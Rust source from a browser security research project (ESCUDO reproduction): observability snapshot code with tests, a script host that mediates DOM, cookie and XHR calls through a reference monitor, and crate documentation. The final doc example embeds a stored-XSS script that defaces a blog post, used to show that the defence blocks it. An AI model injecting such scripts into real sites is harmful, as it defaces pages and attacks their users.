    /// The observed session's reference-monitor counters.
    pub erm: ErmCounters,
    /// The shared cookie jar's shard statistics.
    pub jar: JarStats,
    /// The shared network fabric's counters.
    pub fabric: FabricCounters,
    /// Per-tenant snapshots, sorted by tenant id (empty without a registry).
    pub tenants: Vec<TenantSnapshot>,
}

impl ControlPlaneSnapshot {
    /// Gathers a snapshot from the individual layers. Pass the control plane's
    /// [`TenantRegistry`] to include every registered tenant; `None` snapshots
    /// a single-tenant (library-mode) deployment.
    #[must_use]
    pub fn gather(
        erm: &Erm,
        jar: &SharedCookieJar,
        fabric: &SharedNetwork,
        registry: Option<&TenantRegistry>,
    ) -> Self {
        let mut tenants: Vec<TenantSnapshot> = registry
            .map(|registry| {
                registry
                    .tenants()
                    .iter()
                    .map(|tenant| TenantSnapshot {
                        id: tenant.id().to_string(),
                        generation: tenant.generation(),
                        engine: tenant.engine_stats(),
                        admission: tenant.admission().stats(),
                        config: *tenant.config(),
                    })
                    .collect()
            })
            .unwrap_or_default();
        tenants.sort_by(|a, b| a.id.cmp(&b.id));
        ControlPlaneSnapshot {
            engine: erm.engine_stats(),
            erm: ErmCounters::gather(erm),
            jar: jar.stats(),
            fabric: FabricCounters::gather(fabric),
            tenants,
        }
    }

    /// Gathers a snapshot through a [`Browser`] session's own handles. If the
    /// session is tenant-bound and no registry is given, the snapshot still
    /// carries that one tenant's slice.
    #[must_use]
    pub fn from_browser(browser: &Browser, registry: Option<&TenantRegistry>) -> Self {
        let mut snapshot = ControlPlaneSnapshot::gather(
            browser.erm(),
            browser.cookie_jar(),
            browser.fabric(),
            registry,
        );
        if registry.is_none() {
            if let Some(tenant) = browser.tenant() {
                snapshot.tenants.push(TenantSnapshot {
                    id: tenant.id().to_string(),
                    generation: tenant.generation(),
                    engine: tenant.engine_stats(),
                    admission: tenant.admission().stats(),
                    config: *tenant.config(),
                });
            }
        }
        snapshot
    }

    /// Judges the snapshot against fixed thresholds over its own fields.
    ///
    /// * **Shed rate** — rejected / (admitted + rejected) summed over every
    ///   tenant's admission bucket. Over 5% is [`HealthVerdict::Degraded`];
    ///   over 50% is [`HealthVerdict::Failing`].
    /// * **Audit drop rate** — audit records dropped per mediated check. Over
    ///   5% is `Degraded`; over 50% is `Failing` (the audit trail no longer
    ///   reflects enforcement).
    /// * **Prefetch staleness** — stale discards / (hits + stale discards).
    ///   Over 50% is `Degraded`: the prefetcher is mostly wasted work.
    /// * **Log drops** — any dropped request-log entry is `Degraded` (the
    ///   fabric log understates traffic).
    ///
    /// The verdict is the worst of the four signals.
    #[must_use]
    #[allow(clippy::cast_precision_loss)]
    pub fn health(&self) -> HealthVerdict {
        let rate = |part: u64, whole: u64| {
            if whole == 0 {
                0.0
            } else {
                part as f64 / whole as f64
            }
        };
        let (admitted, rejected) = self.tenants.iter().fold((0u64, 0u64), |(a, r), t| {
            (
                a.saturating_add(t.admission.admitted),
                r.saturating_add(t.admission.rejected),
            )
        });
        let shed_rate = rate(rejected, admitted.saturating_add(rejected));
        let audit_drop_rate = rate(self.erm.audit_dropped, self.erm.checks);
        let prefetch_stale_rate = rate(
            self.fabric.prefetch_stale_discards,
            self.fabric
                .prefetch_hits
                .saturating_add(self.fabric.prefetch_stale_discards),
        );

        if shed_rate > 0.5 || audit_drop_rate > 0.5 {
            HealthVerdict::Failing
        } else if shed_rate > 0.05
            || audit_drop_rate > 0.05
            || prefetch_stale_rate > 0.5
            || self.fabric.dropped_log_entries > 0
        {
            HealthVerdict::Degraded
        } else {
            HealthVerdict::Ok
        }
    }

    /// The snapshot flattened to `(key, value)` pairs in a **stable order**:
    /// `engine_*`, then `erm_*`, then `jar_*`, then `fabric_*`, then one
    /// `tenant_<id>_*` block per tenant in id order. This is the layout the
    /// benches' `--json` writer exports, so adding a field here (always at the
    /// end of its block) is the only way the exported schema may evolve.
    #[must_use]
    #[allow(clippy::cast_precision_loss)]
    pub fn fields(&self) -> Vec<(String, f64)> {
        let mut fields: Vec<(String, f64)> = Vec::new();
        let mut push = |key: String, value: f64| fields.push((key, value));

        push("engine_decisions".into(), self.engine.decisions as f64);
        push("engine_cache_hits".into(), self.engine.cache_hits as f64);
        push(
            "engine_cache_misses".into(),
            self.engine.cache_misses as f64,
        );
        push("engine_hit_rate".into(), self.engine.hit_rate());
        push(
            "engine_interned_principals".into(),
            self.engine.interned_principals as f64,
        );
        push(
            "engine_interned_objects".into(),
            self.engine.interned_objects as f64,
        );
        push(
            "engine_interner_cas_retries".into(),
            self.engine.interner_cas_retries as f64,
        );
        push(
            "engine_interner_max_bucket_depth".into(),
            self.engine.interner_max_bucket_depth as f64,
        );
        push("engine_evictions".into(), self.engine.evictions as f64);
        push(
            "engine_cache_shards".into(),
            self.engine.shards.len() as f64,
        );

        push("erm_checks".into(), self.erm.checks as f64);
        push("erm_denials".into(), self.erm.denials as f64);
        push("erm_audit_retained".into(), self.erm.audit_retained as f64);
        push("erm_audit_capacity".into(), self.erm.audit_capacity as f64);
        push("erm_audit_dropped".into(), self.erm.audit_dropped as f64);

        push("jar_stored".into(), self.jar.stored as f64);
        push("jar_replaced".into(), self.jar.replaced as f64);
        push("jar_evicted".into(), self.jar.evicted as f64);
        push("jar_expired".into(), self.jar.expired as f64);
        push("jar_resident".into(), self.jar.resident as f64);
        push("jar_shards".into(), self.jar.shards.len() as f64);

        push("fabric_log_len".into(), self.fabric.log_len as f64);
        push(
            "fabric_log_capacity".into(),
            self.fabric.log_capacity as f64,
        );
        push(
            "fabric_dropped_log_entries".into(),
            self.fabric.dropped_log_entries as f64,
        );
        push(
            "fabric_prefetch_hits".into(),
            self.fabric.prefetch_hits as f64,
        );
        push(
            "fabric_prefetch_stale_discards".into(),
            self.fabric.prefetch_stale_discards as f64,
        );
        push(
            "fabric_prefetched_entries".into(),
            self.fabric.prefetched_entries as f64,
        );
        push(
            "fabric_pool_workers".into(),
            self.fabric.pool_workers as f64,
        );
        push(
            "fabric_pool_jobs_executed".into(),
            self.fabric.pool_jobs_executed as f64,
        );
        push(
            "fabric_pool_preemptions".into(),
            self.fabric.pool_preemptions as f64,
        );

        // Chaos counters, exported by the benches as `cp_fault_*` /
        // `cp_retry_*` / `cp_breaker_*` — the trajectory comparator treats
        // them as informational so chaos tallies can never flake a perf gate.
        push("fault_injected".into(), self.fabric.fault_injected as f64);
        push("fault_slowdowns".into(), self.fabric.fault_slowdowns as f64);
        push("retry_attempts".into(), self.fabric.retry_attempts as f64);
        push("retry_successes".into(), self.fabric.retry_successes as f64);
        push(
            "retry_deadline_exhausted".into(),
            self.fabric.retry_deadline_exhausted as f64,
        );
        push("breaker_trips".into(), self.fabric.breaker_trips as f64);
        push("breaker_probes".into(), self.fabric.breaker_probes as f64);
        push(
            "breaker_recoveries".into(),
            self.fabric.breaker_recoveries as f64,
        );
        push(
            "breaker_fast_fails".into(),
            self.fabric.breaker_fast_fails as f64,
        );

        // Response-cache counters, exported by the benches as `cp_cache_*` —
        // informational to the trajectory comparator (hit-rate *gates* stay in
        // the benches themselves, where the workload is controlled).
        push("cache_hits".into(), self.fabric.cache_hits as f64);
        push("cache_expired".into(), self.fabric.cache_expired as f64);
        push("cache_evictions".into(), self.fabric.cache_evictions as f64);
        push("cache_stored".into(), self.fabric.cache_stored as f64);
        push("cache_coalesced".into(), self.fabric.cache_coalesced as f64);
        push("cache_entries".into(), self.fabric.cache_entries as f64);

        for tenant in &self.tenants {
            let prefix = format!("tenant_{}", tenant.id);
            push(format!("{prefix}_generation"), tenant.generation as f64);
            push(
                format!("{prefix}_decisions"),
                tenant.engine.decisions as f64,
            );
            push(format!("{prefix}_hit_rate"), tenant.engine.hit_rate());
            push(
                format!("{prefix}_admitted"),
                tenant.admission.admitted as f64,
            );
            push(
                format!("{prefix}_rejected"),
                tenant.admission.rejected as f64,
            );
            push(
                format!("{prefix}_fetch_max_retries"),
                tenant.config.fetch_max_retries as f64,
            );
            push(
                format!("{prefix}_fetch_breaker_threshold"),
                tenant.config.fetch_breaker_threshold as f64,
            );
        }
        fields
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use escudo_core::tenant::{Tenant, TenantConfig};
    use escudo_core::PolicyMode;
    use std::sync::Arc;

    #[test]
    fn snapshot_reaches_every_layer_including_audit_drops_and_sop_stats() {
        use escudo_core::context::{ObjectContext, ObjectKind, PrincipalContext, PrincipalKind};
        use escudo_core::{Operation, Origin, Ring};

        let origin = Origin::new("http", "app.example", 80);
        let principal = PrincipalContext::new(PrincipalKind::Script, origin.clone(), Ring::new(1));
        let object = ObjectContext::new(ObjectKind::Cookie, origin, Ring::new(1));

        // A SameOriginEngine-backed monitor with a tiny audit ring: after three
        // checks the ring has dropped one record — and both the baseline's
        // stats and the drop counter are now reachable through the snapshot.
        let mut erm = Erm::new(PolicyMode::SameOriginOnly).with_audit_capacity(2);
        for _ in 0..3 {
            erm.check(&principal, &object, Operation::Read);
        }
        let jar = SharedCookieJar::new();
        let fabric = SharedNetwork::new();
        let snapshot = ControlPlaneSnapshot::gather(&erm, &jar, &fabric, None);
        assert_eq!(snapshot.engine.decisions, 3);
        assert_eq!(snapshot.erm.checks, 3);
        assert_eq!(snapshot.erm.audit_retained, 2);
        assert_eq!(snapshot.erm.audit_dropped, 1);
        assert!(snapshot.tenants.is_empty());
    }

    #[test]
    fn fields_layout_is_stable_and_covers_registered_tenants() {
        let registry = TenantRegistry::new();
        registry.register("beta", TenantConfig::default());
        registry.register("alpha", TenantConfig::default().with_admission(2, 0));
        // A batch over the burst bound is rejected whole.
        assert!(!registry.get("alpha").unwrap().admission().try_admit(5));
        let erm = Erm::new(PolicyMode::Escudo);
        let jar = SharedCookieJar::new();
        let fabric = SharedNetwork::new();
        let snapshot = ControlPlaneSnapshot::gather(&erm, &jar, &fabric, Some(&registry));

        // Tenants come back sorted by id regardless of registration order.
        let ids: Vec<&str> = snapshot.tenants.iter().map(|t| t.id.as_str()).collect();
        assert_eq!(ids, ["alpha", "beta"]);

        let fields = snapshot.fields();
        let keys: Vec<&str> = fields.iter().map(|(k, _)| k.as_str()).collect();
        // The four layer blocks appear in order, each block contiguous.
        let first_of = |prefix: &str| keys.iter().position(|k| k.starts_with(prefix)).unwrap();
        assert!(first_of("engine_") < first_of("erm_"));
        assert!(first_of("erm_") < first_of("jar_"));
        assert!(first_of("jar_") < first_of("fabric_"));
        assert!(first_of("fabric_") < first_of("tenant_alpha_"));
        assert!(first_of("tenant_alpha_") < first_of("tenant_beta_"));

        let get = |key: &str| {
            fields
                .iter()
                .find(|(k, _)| k == key)
                .map(|(_, v)| *v)
                .unwrap()
        };
        // Rejection counts shed *checks*, not batches: the whole 5-check plan.
        assert_eq!(get("tenant_alpha_rejected"), 5.0);
        assert_eq!(get("tenant_alpha_generation"), 1.0);
        assert_eq!(get("erm_audit_dropped"), 0.0);

        // Gathering twice yields the identical key sequence — the stable layout
        // the JSON exporter depends on.
        let again = ControlPlaneSnapshot::gather(&erm, &jar, &fabric, Some(&registry));
        let keys_again: Vec<String> = again.fields().into_iter().map(|(k, _)| k).collect();
        assert_eq!(keys, keys_again);
    }

    #[test]
    fn health_verdict_worsens_with_shedding_and_audit_drops() {
        let erm = Erm::new(PolicyMode::Escudo);
        let jar = SharedCookieJar::new();
        let fabric = SharedNetwork::new();
        let mut snapshot = ControlPlaneSnapshot::gather(&erm, &jar, &fabric, None);
        assert_eq!(snapshot.health(), HealthVerdict::Ok);
        assert_eq!(snapshot.health().code(), 0);

        // 10% of admission traffic shed → Degraded.
        snapshot.tenants.push(TenantSnapshot {
            id: "metered".into(),
            generation: 1,
            engine: EngineStats::default(),
            admission: AdmissionStats {
                admitted: 90,
                rejected: 10,
                burst: 8,
                refill_per_sec: 0,
            },
            config: TenantConfig::default(),
        });
        assert_eq!(snapshot.health(), HealthVerdict::Degraded);

        // A majority shed → Failing, regardless of the other signals.
        snapshot.tenants[0].admission.rejected = 200;
        assert_eq!(snapshot.health(), HealthVerdict::Failing);
        assert_eq!(snapshot.health().code(), 2);
        assert_eq!(snapshot.health().to_string(), "failing");

        // Audit drops alone degrade, then fail.
        snapshot.tenants.clear();
        snapshot.erm.checks = 100;
        snapshot.erm.audit_dropped = 10;
        assert_eq!(snapshot.health(), HealthVerdict::Degraded);
        snapshot.erm.audit_dropped = 80;
        assert_eq!(snapshot.health(), HealthVerdict::Failing);
    }

    #[test]
    fn health_flags_stale_prefetch_and_log_drops_as_degraded() {
        let erm = Erm::new(PolicyMode::Escudo);
        let jar = SharedCookieJar::new();
        let fabric = SharedNetwork::new();
        let mut snapshot = ControlPlaneSnapshot::gather(&erm, &jar, &fabric, None);

        // A mostly-stale prefetch cache is wasted work, not lost data.
        snapshot.fabric.prefetch_hits = 1;
        snapshot.fabric.prefetch_stale_discards = 9;
        assert_eq!(snapshot.health(), HealthVerdict::Degraded);
        snapshot.fabric.prefetch_stale_discards = 0;
        assert_eq!(snapshot.health(), HealthVerdict::Ok);

        // Any dropped request-log entry understates traffic.
        snapshot.fabric.dropped_log_entries = 1;
        assert_eq!(snapshot.health(), HealthVerdict::Degraded);
    }

    #[test]
    fn from_browser_includes_the_sessions_own_tenant_without_a_registry() {
        let tenant = Arc::new(Tenant::new("solo", TenantConfig::default()));
        let browser = Browser::with_tenant(Arc::clone(&tenant));
        let snapshot = ControlPlaneSnapshot::from_browser(&browser, None);
        assert_eq!(snapshot.tenants.len(), 1);
        assert_eq!(snapshot.tenants[0].id, "solo");
        assert_eq!(snapshot.tenants[0].generation, 1);

        let plain = Browser::new(PolicyMode::Escudo);
        let snapshot = ControlPlaneSnapshot::from_browser(&plain, None);
        assert!(snapshot.tenants.is_empty());
    }
}
