//! The browser's implementation of [`escudo_script::Host`].
//!
//! This is where "the ERM is spread over several places" in the prototype becomes
//! concrete: every DOM, cookie, XMLHttpRequest and history operation a script performs
//! lands in one of these methods, which (1) builds the object's security context from
//! the [`SecurityContextTable`], (2) asks the [`Erm`] for a decision with the script's
//! ambient principal, and only then (3) performs the effect.

use std::collections::HashMap;

use escudo_core::config::{NativeApi, AC_ATTRIBUTES};
use escudo_core::{Operation, PolicyMode, PrincipalContext};
use escudo_dom::{Document, NodeId};
use escudo_html::{Token, Tokenizer};
use escudo_net::{FetchPolicy, Method, Network, Request, SetCookie, SharedCookieJar, Url};
use escudo_script::{Host, HostError, HostNodeId, HostXhrId, XhrOutcome};

use crate::context::SecurityContextTable;
use crate::erm::Erm;
use crate::loader::label_dynamic_subtree;

/// The state handed to the interpreter for one script execution.
pub struct BrowserHost<'a> {
    pub(crate) mode: PolicyMode,
    pub(crate) erm: &'a mut Erm,
    pub(crate) document: &'a mut Document,
    pub(crate) contexts: &'a mut SecurityContextTable,
    pub(crate) jar: &'a SharedCookieJar,
    pub(crate) network: &'a Network,
    pub(crate) history_len: usize,
    pub(crate) page_url: Url,
    pub(crate) principal: PrincipalContext,
    pub(crate) console: Vec<String>,
    /// The session's resilience policy, applied to script-initiated XHR
    /// dispatches exactly as the browser applies it to navigations.
    pub(crate) fetch_policy: FetchPolicy,
    /// Whether the session opted into the fabric's shared response cache;
    /// script-initiated `GET` XHRs then consult it exactly like navigations.
    pub(crate) response_cache_enabled: bool,
    xhrs: HashMap<HostXhrId, (String, String)>,
    next_xhr: HostXhrId,
}

impl std::fmt::Debug for BrowserHost<'_> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("BrowserHost")
            .field("mode", &self.mode)
            .field("principal", &self.principal.ring)
            .field("page_url", &self.page_url)
            .finish()
    }
}

impl<'a> BrowserHost<'a> {
    /// Assembles a host for one script execution.
    #[allow(clippy::too_many_arguments)]
    pub(crate) fn new(
        mode: PolicyMode,
        erm: &'a mut Erm,
        document: &'a mut Document,
        contexts: &'a mut SecurityContextTable,
        jar: &'a SharedCookieJar,
        network: &'a Network,
        history_len: usize,
        page_url: Url,
        principal: PrincipalContext,
        fetch_policy: FetchPolicy,
        response_cache_enabled: bool,
    ) -> Self {
        BrowserHost {
            mode,
            erm,
            document,
            contexts,
            jar,
            network,
            history_len,
            page_url,
            principal,
            console: Vec::new(),
            fetch_policy,
            response_cache_enabled,
            xhrs: HashMap::new(),
            next_xhr: 0,
        }
    }

    /// Messages the script logged via `console.log` / `alert`.
    #[must_use]
    pub fn console(&self) -> &[String] {
        &self.console
    }

    fn node(&self, handle: HostNodeId) -> Result<NodeId, HostError> {
        self.document
            .node_id_at(handle as usize)
            .ok_or_else(|| HostError::NotFound(format!("node {handle}")))
    }

    fn node_label_text(&self, node: NodeId) -> String {
        match self.document.tag_name(node) {
            Some(tag) => match self.document.attribute(node, "id") {
                Some(id) => format!("<{tag} id=\"{id}\">"),
                None => format!("<{tag}>"),
            },
            None => format!("node {node}"),
        }
    }

    fn check_dom(&mut self, node: NodeId, op: Operation) -> Result<(), HostError> {
        let label = self.node_label_text(node);
        let object = self.contexts.dom_object(node, &label);
        self.erm
            .require(&self.principal, &object, op)
            .map_err(HostError::AccessDenied)
    }

    fn check_api(&mut self, api: NativeApi) -> Result<(), HostError> {
        let object = self.contexts.api_object(api);
        self.erm
            .require(&self.principal, &object, Operation::Use)
            .map_err(HostError::AccessDenied)
    }

    fn check_browser_state(&mut self, op: Operation) -> Result<(), HostError> {
        let object = self.contexts.browser_state_object();
        self.erm
            .require(&self.principal, &object, op)
            .map_err(HostError::AccessDenied)
    }

    /// Parses an HTML fragment directly into the page's document under `parent` and
    /// labels every created node with the dynamic-content clamp (creator ∧ parent).
    fn insert_fragment(&mut self, parent: NodeId, html: &str) -> Result<(), HostError> {
        let parent_ring = self.contexts.node_label(parent).ring;
        let mut created_roots: Vec<NodeId> = Vec::new();
        let mut stack: Vec<NodeId> = vec![parent];
        let mut tokenizer = Tokenizer::new(html);
        loop {
            match tokenizer.next_token() {
                Token::Eof => break,
                Token::Doctype(_) => {}
                Token::Comment(text) => {
                    let node = self.document.create_comment(&text);
                    let top = *stack.last().expect("fragment stack is never empty");
                    let _ = self.document.append_child(top, node);
                }
                Token::Text(text) => {
                    if text.is_empty() {
                        continue;
                    }
                    let node = self.document.create_text(&text);
                    let top = *stack.last().expect("fragment stack is never empty");
                    let _ = self.document.append_child(top, node);
                }
                Token::StartTag {
                    name,
                    attrs,
                    self_closing,
                } => {
                    let node = self.document.create_element(&name);
                    for (attr_name, value) in &attrs {
                        self.document.set_attribute(node, attr_name, value);
                    }
                    let top = *stack.last().expect("fragment stack is never empty");
                    let _ = self.document.append_child(top, node);
                    if top == parent {
                        created_roots.push(node);
                    }
                    let is_void = matches!(
                        name.as_str(),
                        "area"
                            | "base"
                            | "br"
                            | "col"
                            | "embed"
                            | "hr"
                            | "img"
                            | "input"
                            | "link"
                            | "meta"
                            | "param"
                            | "source"
                            | "track"
                            | "wbr"
                    );
                    if !self_closing && !is_void {
                        stack.push(node);
                    }
                }
                Token::EndTag { name, .. } => {
                    if let Some(position) = stack
                        .iter()
                        .skip(1)
                        .rposition(|&n| self.document.is_element_named(n, &name))
                    {
                        stack.truncate(position + 1);
                    }
                }
            }
        }
        for root in created_roots {
            label_dynamic_subtree(
                self.document,
                self.contexts,
                root,
                self.principal.ring,
                parent_ring,
            );
        }
        Ok(())
    }

    /// Attaches cookies to an outgoing request according to the policy mode: the
    /// legacy baseline attaches everything in scope (which is what CSRF exploits),
    /// ESCUDO performs a `use` check per cookie — decided as one batch so the engine
    /// lock is taken once per request, not once per cookie. The candidates come from
    /// the (possibly session-shared) jar through [`Erm::mediate_jar`], the same path
    /// browser-initiated requests take.
    fn attach_cookies(&mut self, request: &mut Request, principal: &PrincipalContext) {
        let attached = self.erm.mediate_jar(
            self.jar,
            &request.url,
            Operation::Use,
            principal,
            |name, origin| self.contexts.cookie_object(name, origin),
        );
        if !attached.is_empty() {
            request.headers.set("Cookie", attached.join("; "));
        }
    }
}

impl Host for BrowserHost<'_> {
    fn get_element_by_id(&mut self, id: &str) -> Result<Option<HostNodeId>, HostError> {
        Ok(self
            .document
            .get_element_by_id(id)
            .map(|node| node.index() as HostNodeId))
    }

    fn get_elements_by_tag_name(&mut self, tag: &str) -> Result<Vec<HostNodeId>, HostError> {
        Ok(self
            .document
            .elements_by_tag_name(tag)
            .into_iter()
            .map(|node| node.index() as HostNodeId)
            .collect())
    }

    fn create_element(&mut self, tag: &str) -> Result<HostNodeId, HostError> {
        let node = self.document.create_element(tag);
        // Content created by a principal is never more privileged than the principal.
        self.contexts.set_node_label(
            node,
            escudo_core::config::ResolvedLabel {
                ring: self.principal.ring,
                acl: escudo_core::Acl::uniform(self.principal.ring),
            },
        );
        Ok(node.index() as HostNodeId)
    }

    fn create_text_node(&mut self, text: &str) -> Result<HostNodeId, HostError> {
        let node = self.document.create_text(text);
        Ok(node.index() as HostNodeId)
    }

    fn document_body(&mut self) -> Result<Option<HostNodeId>, HostError> {
        Ok(self
            .document
            .elements_by_tag_name("body")
            .first()
            .map(|node| node.index() as HostNodeId))
    }

    fn document_write(&mut self, html: &str) -> Result<(), HostError> {
        let Some(&body) = self.document.elements_by_tag_name("body").first() else {
            return Err(HostError::NotFound("document body".into()));
        };
        self.check_dom(body, Operation::Write)?;
        self.insert_fragment(body, html)
    }

    fn append_child(&mut self, parent: HostNodeId, child: HostNodeId) -> Result<(), HostError> {
        let parent = self.node(parent)?;
        let child = self.node(child)?;
        self.check_dom(parent, Operation::Write)?;
        let parent_ring = self.contexts.node_label(parent).ring;
        label_dynamic_subtree(
            self.document,
            self.contexts,
            child,
            self.principal.ring,
            parent_ring,
        );
        self.document
            .append_child(parent, child)
            .map_err(|e| HostError::Unsupported(e.to_string()))
    }

    fn remove_child(&mut self, parent: HostNodeId, child: HostNodeId) -> Result<(), HostError> {
        let parent = self.node(parent)?;
        let child = self.node(child)?;
        self.check_dom(parent, Operation::Write)?;
        self.check_dom(child, Operation::Write)?;
        self.document
            .remove(child)
            .map_err(|e| HostError::Unsupported(e.to_string()))
    }

    fn set_attribute(
        &mut self,
        node: HostNodeId,
        name: &str,
        value: &str,
    ) -> Result<(), HostError> {
        let node = self.node(node)?;
        // §5(1): the ring mapping happens exactly once; configuration attributes are
        // not remappable through the DOM API.
        if self.mode == PolicyMode::Escudo
            && AC_ATTRIBUTES
                .iter()
                .any(|attr| attr.eq_ignore_ascii_case(name))
        {
            return Err(HostError::AccessDenied(format!(
                "escudo configuration attribute `{name}` cannot be modified after the \
                 one-time ring mapping"
            )));
        }
        self.check_dom(node, Operation::Write)?;
        self.document.set_attribute(node, name, value);
        Ok(())
    }

    fn get_attribute(&mut self, node: HostNodeId, name: &str) -> Result<Option<String>, HostError> {
        let node = self.node(node)?;
        self.check_dom(node, Operation::Read)?;
        Ok(self.document.attribute(node, name).map(str::to_string))
    }

    fn get_inner_html(&mut self, node: HostNodeId) -> Result<String, HostError> {
        let node = self.node(node)?;
        self.check_dom(node, Operation::Read)?;
        Ok(self.document.inner_html(node))
    }

    fn set_inner_html(&mut self, node: HostNodeId, html: &str) -> Result<(), HostError> {
        let node = self.node(node)?;
        self.check_dom(node, Operation::Write)?;
        self.document.remove_children(node);
        self.insert_fragment(node, html)
    }

    fn get_text_content(&mut self, node: HostNodeId) -> Result<String, HostError> {
        let node = self.node(node)?;
        self.check_dom(node, Operation::Read)?;
        Ok(self.document.text_content(node))
    }

    fn tag_name(&mut self, node: HostNodeId) -> Result<String, HostError> {
        let node = self.node(node)?;
        Ok(self
            .document
            .tag_name(node)
            .unwrap_or("#text")
            .to_ascii_uppercase())
    }

    fn cookie_get(&mut self) -> Result<String, HostError> {
        self.check_api(NativeApi::CookieApi)?;
        let visible = self.erm.mediate_jar(
            self.jar,
            &self.page_url,
            Operation::Read,
            &self.principal,
            |name, origin| self.contexts.cookie_object(name, origin),
        );
        Ok(visible.join("; "))
    }

    fn cookie_set(&mut self, cookie: &str) -> Result<(), HostError> {
        self.check_api(NativeApi::CookieApi)?;
        let directive = SetCookie::parse(cookie)
            .map_err(|e| HostError::Unsupported(format!("malformed cookie: {e}")))?;
        if self.mode == PolicyMode::Escudo {
            let object = self
                .contexts
                .cookie_object(&directive.name, self.page_url.origin());
            let principal = self.principal.clone();
            self.erm
                .require(&principal, &object, Operation::Write)
                .map_err(HostError::AccessDenied)?;
        }
        self.jar.store(&self.page_url, &directive);
        Ok(())
    }

    fn xhr_create(&mut self) -> Result<HostXhrId, HostError> {
        self.next_xhr += 1;
        self.xhrs
            .insert(self.next_xhr, (String::new(), String::new()));
        Ok(self.next_xhr)
    }

    fn xhr_open(&mut self, xhr: HostXhrId, method: &str, url: &str) -> Result<(), HostError> {
        let entry = self
            .xhrs
            .get_mut(&xhr)
            .ok_or_else(|| HostError::NotFound(format!("xhr {xhr}")))?;
        *entry = (method.to_string(), url.to_string());
        Ok(())
    }

    fn xhr_set_request_header(
        &mut self,
        _xhr: HostXhrId,
        _name: &str,
        _value: &str,
    ) -> Result<(), HostError> {
        Ok(())
    }

    fn xhr_send(&mut self, xhr: HostXhrId, body: &str) -> Result<XhrOutcome, HostError> {
        let (method, target) = self
            .xhrs
            .get(&xhr)
            .cloned()
            .ok_or_else(|| HostError::NotFound(format!("xhr {xhr}")))?;

        // The XMLHttpRequest API is itself a ring-labelled object (Table 3/5 assign it
        // to ring 1); invoking it is a `use` of that native API.
        self.check_api(NativeApi::XmlHttpRequest)?;

        let url = self
            .page_url
            .join(&target)
            .map_err(|e| HostError::Network(e.to_string()))?;
        // XMLHttpRequest is same-origin under both the SOP and ESCUDO (the origin rule).
        if url.origin() != self.page_url.origin() {
            return Err(HostError::AccessDenied(format!(
                "origin rule: XMLHttpRequest to {} from page {}",
                url.origin(),
                self.page_url.origin()
            )));
        }

        let method = method.parse::<Method>().unwrap_or(Method::Get);
        let mut request = Request::new(method, url);
        if !body.is_empty() {
            request.body = body.to_string();
            request
                .headers
                .set("Content-Type", "application/x-www-form-urlencoded");
        }
        let principal = self.principal.clone();
        self.attach_cookies(&mut request, &principal);
        let fabric = self.network.fabric();
        let cacheable =
            self.response_cache_enabled && request.method == Method::Get && request.body.is_empty();
        let cookie_header = if cacheable {
            request.headers.get("Cookie").unwrap_or("").to_string()
        } else {
            String::new()
        };
        // A fresh cache entry whose mediated `Cookie` header matches this
        // XHR's plan serves the call without a dispatch — logged under a
        // freshly reserved sequence, byte-identical to a live fetch. XHR
        // consults only the persistent layer: one-shot prefetch entries are
        // reserved for the navigation that speculation predicted.
        if cacheable {
            if let Some(hit) = fabric.cache_lookup(
                Method::Get,
                &request.url,
                &cookie_header,
                escudo_net::CacheLayers::PERSISTENT,
            ) {
                let sequence = fabric.reserve_sequences(1);
                fabric.record_cache_hit(sequence, &request, hit.response.status.0);
                return Ok(XhrOutcome {
                    status: hit.response.status.0,
                    body: hit.response.body.clone(),
                });
            }
        }
        // The resilient dispatch re-sends the mediated request verbatim on a
        // retry — the attachment above is the one plan this XHR ever gets.
        let store_url = cacheable.then(|| request.url.clone());
        match fabric.dispatch_with_policy(request, &self.fetch_policy) {
            Ok(response) => {
                if let Some(url) = store_url.filter(|_| {
                    response.status.is_success()
                        && !response.headers.cache_no_store()
                        && response.headers.get("Set-Cookie").is_none()
                        && response.headers.cache_max_age().is_some()
                }) {
                    fabric.cache_store(Method::Get, &url, &cookie_header, response.clone(), false);
                }
                Ok(XhrOutcome {
                    status: response.status.0,
                    body: response.body,
                })
            }
            Err(e) => Err(HostError::Network(e.to_string())),
        }
    }

    fn history_length(&mut self) -> Result<usize, HostError> {
        self.check_browser_state(Operation::Read)?;
        Ok(self.history_len)
    }

    fn history_back(&mut self) -> Result<(), HostError> {
        self.check_browser_state(Operation::Use)?;
        // Navigation itself is driven by the Browser; for scripts this is a no-op once
        // authorized.
        Ok(())
    }

    fn log(&mut self, message: &str) {
        self.console.push(message.to_string());
    }

    fn alert(&mut self, message: &str) {
        self.console.push(format!("alert: {message}"));
    }
}
