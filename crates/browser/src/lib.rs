//! # escudo-browser
//!
//! The browser engine of the ESCUDO reproduction — the stand-in for the Lobo prototype
//! the paper instruments. It ties the substrates together and contains every ESCUDO
//! enforcement point:
//!
//! * [`loader`] — fetch → parse (with nonce validation) → **one-time** security-context
//!   extraction (AC tags, scoping rule, fail-safe defaults, HTTP policy headers),
//! * [`context`] — the security-context table, kept outside the DOM so scripts can
//!   neither observe nor rewrite their labels,
//! * [`erm`] — the ESCUDO Reference Monitor: a single `check` entry point that applies
//!   the origin, ring and ACL rules (or only the origin rule in the same-origin
//!   baseline) and records an audit trail,
//! * [`host`] — the [`escudo_script::Host`] implementation that interposes the ERM on
//!   every DOM, cookie, XMLHttpRequest and history call a script makes,
//! * [`render`] — a deterministic layout pass so "parsing and rendering time"
//!   measurements exercise realistic work,
//! * [`snapshot`] — the [`ControlPlaneSnapshot`] observability surface: every
//!   counter in the stack (engine, monitor, jar, fabric, tenants) in one
//!   struct with a stable exported field layout,
//! * [`Browser`] — navigation, cookie attachment (the `use` operation), subresource
//!   and form/anchor request issuance, UI-event dispatch, history and visited links.
//!
//! # Example: a user comment cannot rewrite the blog post
//!
//! ```
//! use escudo_browser::{Browser, PolicyMode};
//! use escudo_net::{Request, Response, Server};
//!
//! struct Blog;
//! impl Server for Blog {
//!     fn handle(&mut self, _req: &Request) -> Response {
//!         Response::ok_html(concat!(
//!             "<html><body>",
//!             "<div ring=\"1\" r=\"1\" w=\"1\" x=\"1\" nonce=\"11\" id=\"post\">Original post</div nonce=\"11\">",
//!             "<div ring=\"3\" r=\"3\" w=\"3\" x=\"3\" nonce=\"22\" id=\"comment\">",
//!             "<script>document.getElementById('post').innerHTML = 'defaced';</script>",
//!             "</div nonce=\"22\">",
//!             "</body></html>",
//!         ))
//!     }
//! }
//!
//! let mut browser = Browser::new(PolicyMode::Escudo);
//! browser.network_mut().register("http://blog.example", Blog);
